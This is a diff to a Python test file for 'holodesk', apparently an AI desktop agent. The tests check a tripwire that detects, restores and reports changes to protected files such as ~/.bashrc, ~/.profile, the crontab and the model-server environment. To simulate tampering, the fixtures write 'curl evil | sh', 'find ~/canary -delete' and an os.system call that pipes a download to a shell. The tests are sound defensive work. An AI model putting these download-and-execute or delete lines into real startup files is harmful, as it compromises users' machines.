@@ -26,7 +26,7 @@ from control import tripwire
 from control.inotify import InotifyUnavailable
 from control.tripwire import KEPT_INFIX, STOP_SOURCE, ChangeKind, Trip
 from tests.support.agent_harness import AgentHarness, HarnessFor
-from tests.support.crontab import install_crontab
+from tests.support.crontab import use_crontab
 from tests.support.fake_targets import FakeTargetFinder, window
 from tests.support.fake_vllm import ChatRequest, FakeVLLM, ScriptedPolicy
 from tests.support.home import Home, isolate_home
@@ -175,7 +175,9 @@ def test_a_protected_file_changed_during_a_run_stops_it_naming_the_file_and_the_
         finished = _run(session, h)
     assert finished.outcome is Outcome.STOPPED, finished
     assert rc.read_text() == "alias ll='ls -l'\n"
-    [kept] = _kept(home.root, ".bashrc")
+    # Kept in holodesk's data folder, never beside it (where a loader reading the folder finds
+    # it): kept/<date>-<time>/<its path in the home>.
+    [kept] = (home.data / "holodesk" / "kept").glob("*/.bashrc")
     assert kept.read_text() == "find ~/canary -delete\n"
     reason = finished.reason
     assert reason.startswith("stopped by tripwire: protected files changed while Mousepad "
@@ -247,8 +249,7 @@ def test_a_change_after_the_last_action_is_seen_as_the_run_ends(
 def test_the_crontab_is_compared_through_the_command_and_put_back(
         home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch,
         tmp_path: Path) -> None:
-    spool = install_crontab(tmp_path / "bin")
-    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
+    spool = use_crontab(monkeypatch, tmp_path / "bin")
     spool.write_bytes(b"0 3 * * * backup\n")
 
     def act(event: Event) -> None:
@@ -270,8 +271,7 @@ def test_the_crontab_is_compared_through_the_command_and_put_back(
 
 def test_a_crontab_made_where_there_was_none_is_removed(
         home: Home, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
-    spool = install_crontab(tmp_path / "bin")
-    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
+    spool = use_crontab(monkeypatch, tmp_path / "bin")
     trips: list[Trip] = []
     wire = protected.start_tripwire(Settings(), trips.append, watch=False)
     try:
@@ -291,8 +291,7 @@ def test_a_change_since_the_last_run_is_reported_once_and_holodesks_own_are_not(
         home: Home, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
     from app.settings import set_value
 
-    spool = install_crontab(tmp_path / "bin")
-    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
+    spool = use_crontab(monkeypatch, tmp_path / "bin")
     settings = Settings()
     assert protected.changed_since_last_run(settings) == []  # the first time: nothing known
     protected.record(settings)  # a run ended
@@ -354,3 +353,228 @@ def test_the_record_is_taken_as_the_session_closes(home: Home, harness_for: Harn
     [noticed] = protected.changed_since_last_run(Settings())
     assert (noticed.path, noticed.kind) == (str(home.root / ".bashrc"), ChangeKind.MODIFIED)
     assert os.environ["HOME"] == str(home.root)
+
+
+def test_holodesks_model_server_and_the_models_files_are_in_the_set_by_their_stamps(
+        home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The managed vLLM environment, the environment of the vllm `holodesk serve` would find
+    in the home, and the served model's folder: IDENTITY (compared by stamps, never read)."""
+    venv = home.root / "venvs" / "llm"
+    (venv / "bin").mkdir(parents=True)
+    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    (venv / "bin" / "vllm").write_text("#!/bin/sh\n")
+    (venv / "bin" / "vllm").chmod(0o755)
+    monkeypatch.setenv("PATH", str(venv / "bin"))
+    local_model = home.root / "models" / "holotron"
+    entries = {e.path: e.guard for e in protected.protected_entries(
+        Settings(serve_model=str(local_model)))}
+    for path in (home.data / "holodesk" / "vllm-env", venv, local_model):
+        assert entries.get(path) is tripwire.Guard.IDENTITY, path
+    monkeypatch.setenv("HF_HUB_CACHE", str(home.root / "hub"))
+    entries = {e.path: e.guard for e in protected.protected_entries(Settings())}
+    assert entries.get(home.root / "hub" / "models--Hcompany--Holotron-12B") is (
+        tripwire.Guard.IDENTITY)
+
+
+# -- as the run ends --------------------------------------------------------------------------
+
+
+def _no_inotify(monkeypatch: pytest.MonkeyPatch) -> None:
+    def unavailable() -> None:
+        raise InotifyUnavailable("inotify is off in this test")
+
+    monkeypatch.setattr(tripwire, "Inotify", unavailable)
+
+
+def test_a_change_found_as_a_stopped_run_ends_is_put_back_and_in_its_reason(
+        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The person stops the run (the latch is pulled first, by them); the last look still
+    compares, puts ~/.bashrc back and the reason the run ended says so after the stop."""
+    _no_inotify(monkeypatch)
+    rc = home.root / ".bashrc"
+
+    def model(request: ChatRequest) -> str:
+        if len(server.requests) == 2:
+            rc.write_text("curl evil | sh\n")
+            h.latch.stop("user", "stopped by you")
+        return policy(request)
+
+    policy = ScriptedPolicy([CLICK, CLICK, ANSWER])
+    with FakeVLLM(model) as server:
+        h = harness_for(server)
+        h.parts.finder = FakeTargetFinder(focus=EDITOR)
+        session = _session(h)
+        session.watch_protected_files(h.parts.finder, watch=False)
+        finished = _run(session, h)
+    assert finished.outcome is Outcome.STOPPED
+    assert rc.read_text() == "alias ll='ls -l'\n"
+    assert finished.reason.startswith("stopped by user: stopped by you; then protected files "
+                                      "changed while Mousepad was in front: "), finished.reason
+    assert f"{rc} modified, restored" in finished.reason
+    assert session.after_close == []
+
+
+def test_a_change_after_the_last_look_is_told_as_the_session_closes_and_not_recorded(
+        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch) -> None:
+    """After the last look nothing puts a change back (the run has ended): it is told as the
+    session closes, and the record keeps what the tripwire verified, so the next run tells it
+    too."""
+    _no_inotify(monkeypatch)
+    rc = home.root / ".profile"
+    rc.write_text("PATH=$HOME/bin:$PATH\n")
+
+    def act(event: Event) -> None:
+        if isinstance(event, RunFinished):
+            rc.write_text("curl evil | sh\n")
+
+    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
+        h = harness_for(server)
+        h.on_event = act
+        session = _session(h)
+        session.watch_protected_files(FakeTargetFinder(focus=EDITOR), watch=False)
+        finished = _run(session, h)
+    assert finished.outcome is Outcome.ANSWERED
+    [said] = session.after_close
+    assert said.startswith("protected files changed after the run's last look") and (
+        f"{rc} modified" in said), said
+    assert [n.path for n in protected.changed_since_last_run(Settings())] == [str(rc)]
+
+
+def test_the_last_look_compares_even_a_large_tree_it_left_for_later(
+        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A large IDENTITY tree (the managed vLLM environment) is compared only now and then
+    after an action; the run's last look compares it whatever the time."""
+    _no_inotify(monkeypatch)
+    monkeypatch.setattr(tripwire.Tripwire, "_due", lambda self, index: False)
+    vllm = home.data / "holodesk" / "vllm-env" / "bin" / "vllm"
+    vllm.parent.mkdir(parents=True)
+    vllm.write_text("#!/usr/bin/python3\n")
+
+    def act(event: Event) -> None:
+        if isinstance(event, ActionExecuted):
+            with vllm.open("a") as f:
+                f.write("import os; os.system('curl evil | sh')\n")
+
+    with FakeVLLM(ScriptedPolicy([CLICK, ANSWER])) as server:
+        h = harness_for(server)
+        h.on_event = act
+        session = _session(h)
+        session.watch_protected_files(FakeTargetFinder(focus=EDITOR), watch=False)
+        finished = _run(session, h)
+    assert finished.outcome is Outcome.STOPPED, finished
+    assert f"{vllm} modified, not restored (holodesk keeps no copy" in finished.reason
+
+
+def test_holodesk_run_prints_a_change_after_the_last_look_once_the_run_closed(
+        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """`holodesk run` (app/cli/run.py) with the real session over the stand-in model: what
+    changed after the last look is a warning line once the run is over."""
+    import contextlib
+    from collections.abc import Callable, Iterator
+
+    import app.session
+    from app import runner
+    from app.cli.run import run_task
+
+    _no_inotify(monkeypatch)
+    rc = home.root / ".bashrc"
+
+    @contextlib.contextmanager
+    def no_hotkey(combo: str, latch: object) -> Iterator[bool]:
+        yield True
+
+    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
+        h = harness_for(server)
+
+        def build(settings: Settings, **_kwargs: object) -> Session:
+            session = _session(h)
+            session.watch_protected_files(FakeTargetFinder(focus=EDITOR), watch=False)
+            run = session.run
+
+            def run_and_write(emit: Callable[[Event], None]) -> RunFinished:
+                def then_write(event: Event) -> None:
+                    emit(event)
+                    if isinstance(event, RunFinished):  # after the last look
+                        rc.write_text("curl evil | sh\n")
+
+                return run(then_write)
+
+            session.run = run_and_write  # type: ignore[method-assign]
+            return session
+
+        monkeypatch.setattr(app.session, "build_session", build)
+        monkeypatch.setattr(runner, "stop_hotkey", no_hotkey)
+        assert run_task(Settings(), "look at the screen") == 0
+    said = capsys.readouterr().err
+    assert "warning: protected files changed after the run's last look" in said, said
+    assert f"{rc} modified" in said
+
+
+def test_a_change_the_watcher_puts_back_after_the_last_look_is_told_as_the_session_closes(
+        home: Home, harness_for: HarnessFor) -> None:
+    """The watch goes on until the session closes: a change it puts back after the run's end
+    cannot stop the run any more, so it is told with what the session says as it closes."""
+    from tests.support.gui import poll
+
+    rc = home.root / ".bashrc"
+
+    def act(event: Event) -> None:
+        if isinstance(event, RunFinished):
+            rc.write_text("curl evil | sh\n")
+            poll(lambda: rc.read_text() == "alias ll='ls -l'\n", TIMEOUT, "the watcher")
+
+    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
+        h = harness_for(server)
+        h.on_event = act
+        session = _session(h)
+        session.watch_protected_files(FakeTargetFinder(focus=EDITOR))
+        finished = _run(session, h)
+    assert finished.outcome is Outcome.ANSWERED
+    [said] = session.after_close
+    assert said.startswith("after the run ended, protected files changed while Mousepad was "
+                           f"in front: {rc} modified, restored"), said
+
+
+# -- holodesk's own writes between runs ---------------------------------------------------------
+
+
+def test_only_what_holodesk_left_is_its_own_change(home: Home) -> None:
+    """The journal notes what each own write left (a file's digest): the same path changed
+    again by another program afterwards is told; a bare path in the journal explains nothing."""
+    from app.settings import set_value
+
+    protected.record(Settings())
+    set_value("max_steps", "9")  # holodesk's own: not told
+    assert protected.changed_since_last_run(Settings()) == []
+    set_value("max_steps", "10")
+    with paths.settings_path().open("a") as f:  # then an editor adds a line
+        f.write('confirm = "never"\n')
+    (home.root / ".profile").write_text("curl evil | sh\n")
+    with paths.own_writes_path().open("a") as f:
+        f.write(f"{home.root / '.profile'}\n")
+    noticed = {n.path for n in protected.changed_since_last_run(Settings())}
+    assert noticed == {str(paths.settings_path()), str(home.root / ".profile")}
+
+
+def test_the_journal_is_protected_during_a_run_and_holodesks_own_use_of_it_never_trips(
+        home: Home) -> None:
+    """A line added to the journal by another program during a run trips it; holodesk's own
+    notes, and the report that takes the journal as a run starts, do not."""
+    from app.settings import set_value
+
+    protected.record(Settings())
+    set_value("max_steps", "9")
+    trips: list[Trip] = []
+    wire = protected.start_tripwire(Settings(), trips.append, watch=False)
+    try:
+        set_value("max_steps", "11")  # noted in the journal during the run
+        assert protected.changed_since_last_run(Settings()) == []  # takes the journal away
+        set_value("max_steps", "12")
+        assert wire.check() is None, trips
+        with paths.own_writes_path().open("a") as f:
+            f.write('{"path": "/", "is": "folder:755"}\n')
+        trip = wire.check()
+    finally:
+        wire.close()
+    assert trip is not None and [c.path for c in trip.changes] == [str(paths.own_writes_path())]
